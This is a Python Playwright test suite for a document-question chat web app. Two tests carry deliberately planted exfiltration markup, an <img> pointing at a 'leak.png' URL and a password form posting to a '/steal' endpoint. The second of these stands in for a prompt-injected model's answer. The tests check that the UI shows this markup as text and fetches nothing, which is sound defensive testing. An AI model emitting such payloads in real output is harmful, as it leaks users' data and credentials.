"""The chat UI in a real headless Chromium against real server processes: what a user sees and does.

Screenshots of every key step land in test-artifacts/ui/ (repo-root relative).
"""

from __future__ import annotations

import json
import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import Server, free_port, serving_copy

playwright_sync = pytest.importorskip("playwright.sync_api")
expect = playwright_sync.expect

pytestmark = pytest.mark.browser

ROOT = Path(__file__).resolve().parent.parent
ARTIFACTS = ROOT / "test-artifacts" / "ui"
CHROMIUM = Path("/usr/bin/chromium")
CHROMIUM_ARGS = [
    "--headless=new",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
WAIT_MS = 90_000  # two shared cores: an answer can take a while under load
REFUSAL = "The documents do not contain an answer"
MARKER = re.compile(r"\[\d+\]")

MINE_ACTION = "With which country is Russia jointly chairing the Mine Action Centre?"
VIENTIANE = "What happened during Lavrov's meeting in Vientiane with the Lao minister?"
FOLLOW_UP = "And what did they sign there?"
ZORBULON = "When was the Zorbulon treaty signed?"
LUNAR = (
    "The Quixotl accord on lunar irrigation was signed by the Zorbulan water council in 2031. It establishes "
    "twelve crater reservoirs for lunar irrigation and a shared Zorbulan ice registry."
)
LUNAR_QUESTION = "What does the Quixotl accord on lunar irrigation establish?"
RENAMED = "Talks in Vientiane"


# -- fixtures --------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    if not CHROMIUM.exists():
        pytest.skip("needs Debian's chromium at /usr/bin/chromium (`make browser`)")
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    expect.set_options(timeout=WAIT_MS)
    with playwright_sync.sync_playwright() as p:
        chromium = p.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        yield chromium
        chromium.close()


# a phone's viewport, as the phone tests open their pages
PHONE = {
    "viewport": {"width": 390, "height": 844},
    "device_scale_factor": 2,
    "is_mobile": True,
    "has_touch": True,
}


def open_page(browser: Any, url: str, **context: Any) -> tuple[Any, Any, list[str]]:
    ctx = browser.new_context(**({"viewport": {"width": 1280, "height": 900}} | context))
    page = ctx.new_page()
    page.set_default_timeout(WAIT_MS)
    errors: list[str] = []
    page.on("pageerror", lambda exc: errors.append(str(exc)))
    page.goto(url)
    expect(page.locator("#question textarea")).to_be_visible()
    return ctx, page, errors


@pytest.fixture
def page(browser: Any, server: Server) -> Iterator[Any]:
    ctx, page, errors = open_page(browser, server.url)
    yield page
    ctx.close()
    assert not errors, f"JavaScript errors on the page: {errors}"


# -- helpers ---------------------------------------------------------------------------------------------


def shot(page: Any, name: str, full_page: bool = False) -> None:
    page.screenshot(path=str(ARTIFACTS / f"{name}.png"), full_page=full_page, animations="disabled")


def bots(page: Any) -> Any:
    return page.locator('#chatbot [data-testid="bot"]')


def run_and_wait(page: Any, action: Any) -> None:
    """Does `action` (which starts an answer) and waits until the answer is complete and Send is back.

    The answer has started once Stop was seen or the chat shows one question more: Send swaps to Stop in
    the browser before the question is sent, so a new question means Stop went up, even where a loaded
    browser painted it too briefly for the observer to see. (Not the last answer's text: a finished answer
    can still be re-rendered; Retry, which asks no new question, still waits to see Stop.)"""
    page.evaluate(
        """() => {
          const questions = () => document.querySelectorAll('#chatbot [data-testid="user"]').length;
          const before = questions();
          window.__answerStarted = false;
          const seen = () => {
            if (!(document.querySelector('#stop') || questions() > before)) return;
            window.__answerStarted = true;
            window.__busyObserver.disconnect();  // seen once is enough
          };
          window.__busyObserver && window.__busyObserver.disconnect();
          window.__busyObserver = new MutationObserver(seen);
          window.__busyObserver.observe(document.body, { childList: true, subtree: true });
        }"""
    )
    action()
    try:
        page.wait_for_function(
            """() => window.__answerStarted && document.querySelector('#send') !== null
                     && document.querySelector('#stop') === null""",
            timeout=WAIT_MS,
        )
    except playwright_sync.TimeoutError:
        shot(page, "timeout-run-and-wait", full_page=True)
        state = page.evaluate(
            """() => ({started: window.__answerStarted, send: !!document.querySelector('#send'),
                       stop: !!document.querySelector('#stop'),
                       chat: (document.querySelector('#chatbot') || {}).innerText})"""
        )
        raise AssertionError(f"the answer did not end within {WAIT_MS} ms: {state}") from None


def ask(page: Any, question: str) -> str:
    """Types a question, sends it, waits for the whole answer; returns the answer as displayed."""
    before = bots(page).count()
    page.locator("#question textarea").fill(question)
    run_and_wait(page, lambda: page.locator("#send").click())
    expect(bots(page)).to_have_count(before + 1)
    expect(page.locator(f'#sources .source-group[data-turn="{before}"]')).not_to_contain_text("Searching")
    return bots(page).nth(before).inner_text()


def go_to(page: Any, tab: str) -> None:
    page.get_by_role("tab", name=tab).click()


def upload(page: Any, *paths: Path) -> str:
    """Uploads files on the Documents tab and waits for the ingest report of the last one."""
    go_to(page, "Documents")
    page.locator("#upload input[type=file]").set_input_files([str(p) for p in paths])
    status = page.locator("#documents-status")
    expect(status).to_contain_text(re.compile(rf"{re.escape(paths[-1].name)}\*?\*? (was|could|added|is)"))
    return status.inner_text()


# -- seed questions, citations, follow-ups ---------------------------------------------------------------


def test_seed_question_gets_a_cited_answer_whose_passage_opens_highlighted(page: Any) -> None:
    expect(page.get_by_text("offline · extractive")).to_be_visible()
    # Every control has an accessible name a screen reader can announce.
    expect(page.get_by_role("textbox", name="Your question")).to_be_editable()
    for name in ("Send", "Retry", "Clear"):
        expect(page.get_by_role("button", name=name, exact=True)).to_be_visible()
    for name in ("Chat", "Documents", "Settings"):
        expect(page.get_by_role("tab", name=name)).to_be_visible()
    expect(page.get_by_role("region", name="Sources")).to_be_visible()
    shot(page, "01-empty-chat")

    answer = ask(page, MINE_ACTION)
    assert "Cambodia" in answer and MARKER.search(answer), answer
    link = bots(page).first.locator("a.cite").first
    expect(link).to_be_visible()
    n = link.inner_text().strip("[]")
    assert n == "1", "the first marker a reader meets is [1]"
    expect(page.get_by_role("link", name=f"Show source {n}")).to_be_visible()
    sources = page.locator("#sources")
    expect(sources).to_contain_text(".txt")
    expect(sources).to_contain_text("characters")
    shot(page, "02-cited-answer")

    page.locator("#sources summary").first.click()  # fold the card, so the marker click is what opens it
    card = page.locator(f"#source-0-{n}")
    expect(card).not_to_have_attribute("open", "")
    link.click()
    expect(card).to_have_attribute("open", "")
    expect(card).to_be_in_viewport()
    mark = card.locator("mark")
    expect(mark).to_be_visible()
    expect(mark).to_contain_text("Cambodia")
    expect(card.locator(".meta")).to_contain_text(re.compile(r"characters [\d,]+–[\d,]+"))
    # the document by its title (the seed's first line), its hash-named file after it
    expect(card.locator("summary")).to_contain_text(re.compile(r"\[\d+\]\s*Foreign Minister .*\s\S+\.txt"))
    expect(link).to_have_attribute("title", re.compile(r"\.txt: .*Cambodia"))  # hover hint names the source
    shot(page, "03-citation-opened")


def test_follow_up_question_uses_the_conversation(page: Any) -> None:
    first = ask(page, VIENTIANE)
    assert "Vientiane" in first and MARKER.search(first), first
    second = ask(page, FOLLOW_UP)
    assert re.search(r"memorandum|agreement", second, re.I), second
    assert "sign" in second.lower() and MARKER.search(second), second
    expect(page.locator("#sources .source-group[data-turn='1'] mark").first).to_be_visible()
    shot(page, "04-follow-up")

    # A marker of the first answer shows the first answer's sources, not the latest ones.
    bots(page).first.locator("a.cite").first.click()
    expect(page.locator("#sources .source-group[data-turn='0']")).to_be_visible()
    expect(page.locator("#sources .source-group[data-turn='1']")).to_be_hidden()
    expect(page.locator("#sources .source-group[data-turn='0'] details[open] mark").first).to_contain_text(
        "Vientiane"
    )
    shot(page, "05-earlier-answer-sources")


def test_retry_asks_the_last_question_again_and_clear_starts_over(page: Any) -> None:
    ask(page, MINE_ACTION)
    ask(page, VIENTIANE)
    run_and_wait(page, lambda: page.locator("#retry").click())
    expect(page.locator('#chatbot [data-testid="user"]')).to_have_count(2)
    expect(bots(page)).to_have_count(2)
    expect(bots(page).last).to_contain_text("Vientiane")
    expect(page.locator("#sources .source-group[data-turn='1']")).to_contain_text(VIENTIANE)

    page.locator("#clear").click()
    expect(bots(page)).to_have_count(0)
    expect(page.locator("#sources")).to_contain_text("The passages an answer cites appear here")
    examples = page.locator("#chatbot").get_by_text(MINE_ACTION)  # the example questions are back
    expect(examples.first).to_be_visible()
    shot(page, "06-cleared")


# -- documents -------------------------------------------------------------------------------------------


def test_uploaded_document_is_cited_and_deleting_it_removes_it(page: Any, tmp_path: Path) -> None:
    doc = tmp_path / "zorbulon_treaty.txt"
    doc.write_text(
        "The Zorbulon treaty was signed in 2031 by the republics of Vexland and Quorra in the city of "
        "Malvana. It created a joint commission on orbital debris.\n",
        encoding="utf-8",
    )
    go_to(page, "Documents")
    table = page.locator("#documents-table")
    expect(table).to_contain_text("000_78f4c420c5d86458.txt")
    expect(page.locator("#documents-summary")).to_contain_text("2 documents")

    report = upload(page, doc)
    assert "zorbulon_treaty.txt added" in report and "1 new chunk" in report, report
    expect(table).to_contain_text("zorbulon_treaty.txt")
    expect(page.locator("#documents-summary")).to_contain_text("3 documents")
    shot(page, "07-uploaded", full_page=True)

    go_to(page, "Chat")
    answer = ask(page, ZORBULON)
    assert "2031" in answer and MARKER.search(answer), answer
    expect(page.locator("#sources .source-group[data-turn='0'] details.source-card").first).to_contain_text(
        "zorbulon_treaty.txt"
    )
    shot(page, "08-answer-cites-upload")

    go_to(page, "Documents")
    delete = table.get_by_role("button", name="Delete zorbulon_treaty.txt")
    delete.click()
    expect(page.locator("#confirm-row")).to_be_visible()
    expect(page.locator("#confirm-text")).to_contain_text("zorbulon_treaty.txt")
    page.locator("#cancel-delete").click()  # changed their mind: nothing is deleted
    expect(page.locator("#confirm-row")).to_be_hidden()
    expect(table).to_contain_text("zorbulon_treaty.txt")
    expect(page.locator("#documents-summary")).to_contain_text("3 documents")
    delete.click()
    expect(page.locator("#confirm-text")).to_contain_text("zorbulon_treaty.txt")
    shot(page, "09-confirm-delete")
    page.locator("#confirm-delete").click()
    expect(page.locator("#documents-status")).to_contain_text("Deleted zorbulon_treaty.txt")
    expect(table).not_to_contain_text("zorbulon_treaty.txt")
    expect(page.locator("#documents-summary")).to_contain_text("2 documents")
    expect(page.locator("#confirm-row")).to_be_hidden()
    shot(page, "10-deleted", full_page=True)

    go_to(page, "Chat")
    again = ask(page, ZORBULON)
    assert REFUSAL in again or "2031" not in again, again
    expect(page.locator("#sources .source-group[data-turn='1'] details.source-card")).to_have_count(0)
    expect(page.locator("#sources .source-group[data-turn='1']")).not_to_contain_text("zorbulon_treaty.txt")
    shot(page, "11-after-delete")


def test_markup_planted_in_a_document_is_shown_as_text(page: Any, tmp_path: Path) -> None:
    """S10: a document's HTML (a password form, a remote image) quoted in an answer renders as text; the
    page's Content-Security-Policy would block a remote image anyway."""
    doc = tmp_path / "quillon_pact.txt"
    doc.write_text(
        "The Quillon pact was signed in Dravik in 2033 <img src='http://198.51.100.7/leak.png'> "
        "<form action='http://198.51.100.7/steal'><input type='password' name='pw'></form> by nine states.\n",
        encoding="utf-8",
    )
    requests: list[str] = []
    page.on("request", lambda r: requests.append(r.url) if "198.51.100.7" in r.url else None)
    report = upload(page, doc)
    assert "quillon_pact.txt added" in report, report
    go_to(page, "Chat")
    answer = ask(page, "Where was the Quillon pact signed?")
    assert "Dravik" in answer and "<form action=" in answer, answer
    chat = page.locator("#chatbot")
    expect(chat.locator("form, input[type=password]")).to_have_count(0)
    expect(chat.locator("img[src*='198.51.100.7']")).to_have_count(0)
    assert requests == [], requests
    csp = page.evaluate("async () => (await fetch('/')).headers.get('content-security-policy')")
    assert "img-src 'self' data:" in csp and "form-action 'self'" in csp
    shot(page, "12-planted-markup-as-text")


def test_bad_and_unreadable_files_get_a_friendly_error_and_the_session_goes_on(
    page: Any, tmp_path: Path
) -> None:
    bad = tmp_path / "notes.exe"
    bad.write_bytes(b"MZ\x90\x00 not a document")
    broken = tmp_path / "broken.pdf"
    broken.write_bytes(b"this is not really a PDF")
    report = upload(page, bad, broken)
    assert "notes.exe was not added" in report and "Supported types" in report and ".pdf" in report, report
    assert "broken.pdf could not be read" in report, report
    assert "Traceback" not in report
    table = page.locator("#documents-table")
    expect(table).not_to_contain_text("notes.exe")
    expect(table).not_to_contain_text("broken.pdf")
    expect(page.locator("#documents-summary")).not_to_contain_text("0 documents")
    shot(page, "12-bad-file", full_page=True)

    go_to(page, "Chat")
    answer = ask(page, MINE_ACTION)
    assert "Cambodia" in answer, answer


# -- settings, phone -------------------------------------------------------------------------------------


def test_settings_show_the_offline_mode_and_k_changes_the_passages_searched(page: Any) -> None:
    go_to(page, "Settings")
    expect(page.locator("#mode-note")).to_contain_text("Offline extractive mode")
    expect(page.locator("#mode-note")).to_contain_text("copied word for word")
    model = page.locator("#model-name input, #model-name textarea").first
    expect(model).to_have_value(re.compile("extractive"))
    expect(model).not_to_be_editable()
    expect(page.locator("#provider input, #provider textarea").first).to_have_value(re.compile("extractive"))
    k = page.locator("#k input[type=number]")
    expect(k).to_have_value("6")
    k.fill("2")
    k.press("Tab")
    shot(page, "13-settings", full_page=True)

    go_to(page, "Chat")
    ask(page, MINE_ACTION)
    group = page.locator("#sources .source-group[data-turn='0']")
    searched = group.locator("details.source-card").count() + group.locator(".other-passages li").count()
    # 2 ranked passages and at most 3 section openings: fewer than the default k of 6 alone
    assert 2 <= searched <= 5, f"{searched} passages shown for k=2"


def test_phone_width_chat_is_usable(browser: Any, server: Server) -> None:
    ctx, page, errors = open_page(browser, server.url, **PHONE)
    try:
        width = page.evaluate("document.documentElement.scrollWidth")
        assert width <= 390, f"the page scrolls sideways on a phone ({width}px wide)"
        for selector in ("#question textarea", "#send", "#chatbot"):
            expect(page.locator(selector)).to_be_in_viewport()
        box = page.locator("#send").bounding_box()
        assert box and box["x"] + box["width"] <= 390 and box["height"] >= 32, box
        shot(page, "14-phone-empty")

        before = bots(page).count()
        example = page.locator("#chatbot").get_by_text(MINE_ACTION).first  # not the sidebar's title
        run_and_wait(page, lambda: example.tap())  # an example question
        expect(bots(page)).to_have_count(before + 1)
        expect(bots(page).first).to_contain_text("Cambodia")
        link = bots(page).first.locator("a.cite").first
        expect(link).to_be_visible()
        shot(page, "15-phone-answer")

        link.tap()
        card = page.locator(f"#source-0-{link.inner_text().strip('[]')}")
        expect(card.locator("mark")).to_be_in_viewport()
        assert page.evaluate("document.documentElement.scrollWidth") <= 390
        shot(page, "16-phone-source")
        page.locator("#sources .source-group:not([hidden]) a.back-to-chat").tap()
        expect(page.locator("#question textarea")).to_be_in_viewport()

        go_to(page, "Documents")
        expect(page.locator("#documents-table")).to_contain_text("003_50dedbe65a896504.txt")
        expect(page.locator("#upload")).to_be_visible()
        assert page.evaluate("document.documentElement.scrollWidth") <= 390
        shot(page, "17-phone-documents", full_page=True)
    finally:
        ctx.close()
    assert not errors, f"JavaScript errors on the page: {errors}"


# -- with API keys: a person signs in -------------------------------------------------------------------


@pytest.fixture(scope="module")
def keyed_server(seeded_dir: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    with serving_copy(seeded_dir, tmp_path_factory.mktemp("keyed-ui"), RAG_API_KEYS="ui-key-1") as srv:
        yield srv


def test_a_person_signs_in_with_a_key_and_the_ui_works(browser: Any, keyed_server: Server) -> None:
    ctx = browser.new_context(viewport={"width": 1280, "height": 900})
    page = ctx.new_page()
    page.set_default_timeout(WAIT_MS)
    errors: list[str] = []
    page.on("pageerror", lambda exc: errors.append(str(exc)))
    try:
        page.goto(keyed_server.url)
        assert "/login" in page.url
        page.locator("#key").fill("not-the-key")
        page.locator("#sign-in").click()
        expect(page.get_by_role("alert")).to_contain_text("not valid")
        page.locator("#key").fill("ui-key-1")
        shot(page, "22-sign-in")
        page.locator("#sign-in").click()
        expect(page.locator("#question textarea")).to_be_visible()
        cookie = next(c for c in ctx.cookies() if c["name"] == "assistant_session")
        assert cookie["httpOnly"] and cookie["sameSite"] == "Strict"
        answer = ask(page, MINE_ACTION)
        assert "Cambodia" in answer and MARKER.search(answer), answer
        go_to(page, "Documents")
        expect(page.locator("#documents-table")).to_contain_text("000_78f4c420c5d86458.txt")
    finally:
        ctx.close()
    assert not errors, f"JavaScript errors on the page: {errors}"


# -- people (issue 12): name and password; a member sees no Documents admin controls -------------------------


@pytest.fixture(scope="module")
def people_server(seeded_dir: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    import shutil

    from assistant.settings import Settings
    from assistant.storage import Storage
    from tests.conftest import start_server

    base = tmp_path_factory.mktemp("people-ui")
    shutil.copytree(seeded_dir, base / "data")
    storage = Storage.from_settings(Settings(data_dir=base / "data"))
    storage.users.add("ada", "ada-password", admin=True)
    storage.users.add("bob", "bob-password")
    storage.collections.add("default")
    storage.collections.grant("default", "bob")
    storage.collections.add("moon")
    storage.collections.grant("moon", "bob")
    storage.close()
    from assistant.container import build_container

    (base / "moon").mkdir()
    (base / "moon" / "lunar.txt").write_text(LUNAR)
    container = build_container(Settings(data_dir=base / "data"))
    assert container.ingest.ingest([base / "moon"], collection="moon").chunks_added > 0
    srv = start_server(base / "data", base / "server.log")
    try:
        yield srv
    finally:
        srv.stop()


def sign_in(browser: Any, url: str, name: str, password: str) -> tuple[Any, Any, list[str]]:
    ctx = browser.new_context(viewport={"width": 1280, "height": 900})
    page = ctx.new_page()
    page.set_default_timeout(WAIT_MS)
    errors: list[str] = []
    page.on("pageerror", lambda exc: errors.append(str(exc)))
    page.goto(url)
    assert "/login" in page.url, "users exist: the browser lands on the sign-in page"
    page.locator("#name").fill(name)
    page.locator("#key").fill(password)
    page.locator("#sign-in").click()
    expect(page.locator("#question textarea")).to_be_visible()
    return ctx, page, errors


def test_a_member_signs_in_with_name_and_password_and_sees_no_documents_admin_controls(
    browser: Any, people_server: Server
) -> None:
    ctx, page, errors = sign_in(browser, people_server.url, "bob", "bob-password")
    try:
        answer = ask(page, MINE_ACTION)
        assert "Cambodia" in answer and MARKER.search(answer), answer
        go_to(page, "Documents")
        expect(page.locator("#documents-table")).to_contain_text("000_78f4c420c5d86458.txt")
        shot(page, "40-member-documents")
        expect(page.locator("#upload")).to_have_count(0)
        expect(page.locator("#documents-table button.delete-doc")).to_have_count(0)
    finally:
        ctx.close()
    assert not errors, f"JavaScript errors on the page: {errors}"
    ctx, page, errors = sign_in(browser, people_server.url, "ada", "ada-password")
    try:
        go_to(page, "Documents")
        expect(page.locator("#upload")).to_be_visible()
        expect(page.locator("#documents-table button.delete-doc").first).to_be_visible()
    finally:
        ctx.close()
    assert not errors, f"JavaScript errors on the page: {errors}"


def test_conversations_survive_a_reload_and_an_old_answers_source_opens(
    browser: Any, people_server: Server
) -> None:
    """The sidebar (issue 21): the conversation's address survives a reload; an old one opens from the list
    with its sources; New chat starts another; delete asks first. tests/test_ui_sidebar.py has the rest."""
    ctx, page, errors = sign_in(browser, people_server.url, "bob", "bob-password")
    items = page.locator("#conversation-list a.conversation-item")
    opened = page.locator("#conversation-list a.conversation-item[aria-current]")
    try:
        first = ask(page, VIENTIANE)
        assert "Vientiane" in first and MARKER.search(first), first
        expect(opened).to_have_text(re.compile("What happened during Lavrov"))
        title = page.locator("#conversation-title textarea")
        expect(title).to_have_value(re.compile("What happened during Lavrov"))
        title.fill(RENAMED)
        page.locator("#rename-conversation").click()
        expect(opened).to_have_text(RENAMED)  # the list is read again, the same conversation stays open
        expect(bots(page)).to_have_count(1)
        page.reload()  # the address (?c=) keeps the conversation open
        expect(bots(page)).to_have_count(1)
        expect(opened).to_have_text(RENAMED)  # the stored title after a reload, and the old one gone
        expect(items.filter(has_text="What happened during Lavrov")).to_have_count(0)
        expect(title).to_have_value(RENAMED)
        expect(bots(page).first).to_contain_text("Vientiane")
        link = bots(page).first.locator("a.cite").first
        expect(link).to_be_visible()
        n = link.inner_text().strip("[]")
        link.click()
        card = page.locator(f"#source-0-{n}")
        expect(card).to_have_attribute("open", "")
        expect(card.locator("mark").first).to_be_visible()
        shot(page, "41-reloaded-conversation-source")

        second = ask(page, FOLLOW_UP)  # continues the stored conversation
        assert "sign" in second.lower() and MARKER.search(second), second
        first_address = page.url
        page.locator("#new-chat").click()
        expect(bots(page)).to_have_count(0)
        expect(opened).to_have_count(0)

        page.locator("#collection-picker input").click()
        page.get_by_role("option", name="moon").click()
        page.keyboard.press("Escape")
        answer = ask(page, LUNAR_QUESTION)
        group = page.locator("#sources .source-group[data-turn='0']")
        expect(group).to_contain_text("lunar.txt")
        expect(group).not_to_contain_text(re.compile(r"\d{3}_[0-9a-f]{16}\.txt"))  # no seed passage searched
        assert MARKER.search(answer), answer
        shot(page, "42-collection-picker")

        # the new conversation's address is written once it is stored: a reload before that opens none
        page.wait_for_function(
            "(old) => location.search.includes('c=') && location.href !== old", arg=first_address
        )
        page.reload()
        expect(bots(page)).to_have_count(1)  # the lunar conversation, by its address
        items.filter(has_text=RENAMED).click()
        expect(bots(page)).to_have_count(2)
        page.locator("#delete-conversation").click()
        expect(items.filter(has_text=RENAMED)).to_have_count(1)  # not yet: a confirmation first
        page.locator("#confirm-delete-chat").click()
        expect(bots(page)).to_have_count(0)
        expect(items.filter(has_text=RENAMED)).to_have_count(0)
        expect(items.filter(has_text="Quixotl accord")).to_have_count(1)  # the other one stays
    finally:
        ctx.close()
    assert not errors, f"JavaScript errors on the page: {errors}"


def test_the_document_picker_scopes_questions_to_the_chosen_documents(
    browser: Any, people_server: Server
) -> None:
    ctx, page, errors = sign_in(browser, people_server.url, "bob", "bob-password")
    try:
        page.locator("#document-picker input").click()
        page.get_by_role("option", name="000_78f4c420c5d86458.txt").click()
        page.keyboard.press("Escape")
        inside = ask(page, VIENTIANE)  # answered from the chosen document
        assert "Vientiane" in inside and MARKER.search(inside), inside
        outside = ask(page, MINE_ACTION)  # only the other seed names Cambodia: not searched now
        assert "Cambodia" not in outside, outside
        for turn in (0, 1):
            group = page.locator(f"#sources .source-group[data-turn='{turn}']")
            expect(group).not_to_contain_text("003_50dedbe65a896504.txt")
        shot(page, "43-document-picker")
    finally:
        ctx.close()
    assert not errors, f"JavaScript errors on the page: {errors}"


# -- a generative model: streaming, Stop, and the model server going down ----------------------------------


class FakeModel:
    """An OpenAI-compatible chat server that cites the passage mentioning Cambodia, word by word."""

    def __init__(self) -> None:
        self.port = free_port()
        self.url = f"http://127.0.0.1:{self.port}/v1"
        self.delay = 0.05
        self.repeat = 1
        self.extra = ""  # appended to the answer: what a prompt-injected model might write
        self.fetched: list[str] = []  # GET requests: an image in an answer that the browser fetched
        self.stopped = threading.Event()
        # cleared: the first word waits until a test sets it (it has seen what the page shows before)
        self.go = threading.Event()
        self.go.set()
        self._server: ThreadingHTTPServer | None = None

    def answer(self, body: dict[str, Any]) -> str:
        prompt = "\n".join(str(m.get("content") or "") for m in body["messages"])
        passages = re.finditer(r'<document n="(\d+)"[^>]*>\n(.*?)</document>', prompt, re.S)
        n = next((m.group(1) for m in passages if "Cambodia" in m.group(2)), None)
        if n is None:
            return "The documents do not contain an answer to this question."
        text = " ".join([f"Russia jointly chairs the Mine Action Centre with Cambodia [{n}]."] * self.repeat)
        return text + self.extra.replace("{n}", n)

    def start(self) -> None:
        model = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args: Any) -> None:
                pass

            def do_GET(self) -> None:
                model.fetched.append(self.path)
                self.send_response(404)
                self.end_headers()

            def do_POST(self) -> None:
                body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                text = model.answer(body)
                if not body.get("stream"):
                    payload = json.dumps(
                        {
                            "id": "x",
                            "object": "chat.completion",
                            "created": 0,
                            "model": "fake",
                            "choices": [
                                {
                                    "index": 0,
                                    "message": {"role": "assistant", "content": text},
                                    "finish_reason": "stop",
                                }
                            ],
                        }
                    ).encode()
                    self.send_response(200)
                    self.send_header("Content-Type", "application/json")
                    self.send_header("Content-Length", str(len(payload)))
                    self.end_headers()
                    self.wfile.write(payload)
                    return
                self.send_response(200)
                self.send_header("Content-Type", "text/event-stream")
                self.end_headers()
                if not model.go.wait(WAIT_MS / 1000) or model.stopped.is_set():
                    return
                try:
                    for i, word in enumerate(re.findall(r"\S+\s*", text)):
                        delta = {"content": word} | ({"role": "assistant"} if i == 0 else {})
                        chunk = {
                            "id": "x",
                            "object": "chat.completion.chunk",
                            "created": 0,
                            "model": "fake",
                            "choices": [{"index": 0, "delta": delta, "finish_reason": None}],
                        }
                        self.wfile.write(f"data: {json.dumps(chunk)}\n\n".encode())
                        self.wfile.flush()
                        if model.stopped.wait(model.delay):
                            return
                    self.wfile.write(b"data: [DONE]\n\n")
                    self.wfile.flush()
                except (BrokenPipeError, ConnectionResetError):
                    pass  # the client went away: Stop was pressed

        self.stopped.clear()
        self._server = ThreadingHTTPServer(("127.0.0.1", self.port), Handler)
        self._server.daemon_threads = True
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def stop(self) -> None:
        if self._server is not None:
            self.stopped.set()
            self.go.set()  # a stream waiting for its first word ends
            self._server.shutdown()
            self._server.server_close()
            self._server = None


@pytest.fixture(scope="module")
def fake_model() -> Iterator[FakeModel]:
    model = FakeModel()
    model.start()
    yield model
    model.stop()


@pytest.fixture(scope="module")
def generative_server(
    seeded_dir: Path, tmp_path_factory: pytest.TempPathFactory, fake_model: FakeModel
) -> Iterator[Server]:
    with serving_copy(
        seeded_dir,
        tmp_path_factory.mktemp("generative"),
        RAG_LLM_PROVIDER="openai-compatible",
        RAG_LLM_BASE_URL=fake_model.url,
        RAG_LLM_MODEL="fake-model",
        RAG_LLM_MAX_RETRIES="0",
        RAG_LLM_TIMEOUT="20",
    ) as srv:
        yield srv


def settled_text(page: Any, locator: Any, tries: int = 10) -> str:
    """The text once it stops changing for 1.5 s (several words' time, had the stream gone on)."""
    before = locator.inner_text()
    for _ in range(tries):
        page.wait_for_timeout(1500)
        now = locator.inner_text()
        if now == before:
            return now
        before = now
    return before


def test_generated_answer_streams_and_stop_ends_it(
    browser: Any, generative_server: Server, fake_model: FakeModel
) -> None:
    ctx, page, errors = open_page(browser, generative_server.url)
    try:
        expect(page.locator("#mode-badge")).to_contain_text("fake-model")
        fake_model.delay, fake_model.repeat = 0.02, 1
        answer = ask(page, MINE_ACTION)
        assert "Cambodia" in answer and MARKER.search(answer), answer
        link = bots(page).first.locator("a.cite").first
        link.click()
        card = page.locator(f"#source-0-{link.inner_text().strip('[]')}")
        expect(card.locator("mark")).to_contain_text("Cambodia")  # a paraphrase still finds its sentence
        shot(page, "18-generated-answer")

        # ~80 s of words: on a loaded machine the checks below took long enough for a 5 s answer to end
        # before Stop was clicked (CI H: the click waited 90 s for a Stop button that was gone).
        fake_model.delay, fake_model.repeat = 0.4, 200
        page.locator("#question textarea").fill(MINE_ACTION)
        page.locator("#send").click()
        expect(page.locator("#stop")).to_be_visible()
        expect(bots(page).nth(1)).to_contain_text("Mine Action Centre")  # words arrive while it streams
        expect(page.locator("#sources")).to_contain_text("Writing the answer")
        shot(page, "19-streaming")
        page.locator("#stop").click()
        expect(page.locator("#send")).to_be_visible(timeout=15_000)
        expect(bots(page).nth(1)).to_contain_text("(stopped)", timeout=15_000)  # a loaded machine is slow
        stopped_at = settled_text(page, bots(page).nth(1))  # had the stream gone on, it would run to the end
        assert "(stopped)" in stopped_at, stopped_at  # a chunk already in flight must not unmark the answer
        assert stopped_at.count("Mine Action Centre") < 200
        shot(page, "20-stopped")
    finally:
        ctx.close()
    assert not errors, f"JavaScript errors on the page: {errors}"


def test_an_injected_answer_shows_its_markup_as_text_fetches_nothing_and_is_marked(
    browser: Any, generative_server: Server, fake_model: FakeModel
) -> None:
    """S9/S10: a model answer carrying a remote image, a link and a password form (as a prompt-injected
    document would ask for) is shown as text; nothing is fetched; the unsupported sentence is marked."""
    pixel = f"http://127.0.0.1:{fake_model.port}/pixel.png?leak=secret"
    fake_model.delay, fake_model.repeat = 0.0, 1
    fake_model.extra = (
        f" The centre moved to Mars in 1850 ![pixel]({pixel}) [link](http://127.0.0.1:{fake_model.port}/x) "
        f"<img src='{pixel}'> <form action='http://127.0.0.1:{fake_model.port}/steal'>"
        "<input type='password' name='pw'></form> [{n}]."
    )
    fake_model.fetched.clear()
    ctx, page, errors = open_page(browser, generative_server.url)
    try:
        answer = ask(page, MINE_ACTION)
        bot = bots(page).first
        assert "![pixel](" in answer and "<form action=" in answer, answer  # shown as text
        expect(bot.locator("img")).to_have_count(0)
        expect(bot.locator("form, input")).to_have_count(0)
        expect(bot.locator("a:not(.cite)")).to_have_count(0)
        expect(bot.locator("a.cite").first).to_be_visible()  # the [n] markers still link to their sources
        expect(bot).to_contain_text("Not supported by the passages it cites")
        expect(bot.locator(".unsupported-note")).to_be_visible()
        assert "moved to Mars" in answer.split("Not supported by the passages it cites")[1]
        shot(page, "21-injected-answer-as-text")
        page.wait_for_timeout(1000)
        assert fake_model.fetched == [], f"the browser fetched {fake_model.fetched}"
    finally:
        fake_model.extra = ""
        ctx.close()
    assert not errors, f"JavaScript errors on the page: {errors}"


def test_model_server_down_shows_a_friendly_error_and_the_session_goes_on(
    browser: Any, generative_server: Server, fake_model: FakeModel
) -> None:
    ctx, page, errors = open_page(browser, generative_server.url)
    try:
        fake_model.stop()
        answer = ask(page, MINE_ACTION)
        assert "The language model is not available right now" in answer, answer
        assert "Retry" in answer and "Traceback" not in answer, answer
        expect(page.locator("#sources")).to_contain_text("the model is unavailable")
        shot(page, "21-model-down")

        answer = ask(page, VIENTIANE)  # the session still works: another question, another clear message
        assert "not available" in answer, answer
        go_to(page, "Documents")
        expect(page.locator("#documents-table")).to_contain_text("000_78f4c420c5d86458.txt")
        go_to(page, "Settings")
        expect(page.locator("#mode-note")).to_contain_text("Generative mode")
    finally:
        ctx.close()
        fake_model.start()  # back on its port for the module's later tests
    assert not errors, f"JavaScript errors on the page: {errors}"
